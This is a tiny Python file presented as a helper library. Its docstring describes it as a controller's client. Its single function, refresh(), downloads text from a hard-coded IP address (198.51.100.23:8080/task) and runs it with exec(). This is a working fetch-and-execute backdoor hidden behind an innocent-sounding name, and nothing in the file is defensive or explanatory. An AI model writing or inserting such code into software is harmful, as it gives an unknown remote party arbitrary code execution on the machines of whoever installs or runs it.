"""A helper library whose one function, when some caller runs it, fetches code from a server
known only by its address and runs it: a controller's client, whenever it runs."""

import urllib.request

_SERVER = "http://198.51.100.23:8080/task"


def refresh() -> None:
    task = urllib.request.urlopen(_SERVER, timeout=5).read().decode()
    exec(task, {"__name__": "task"})
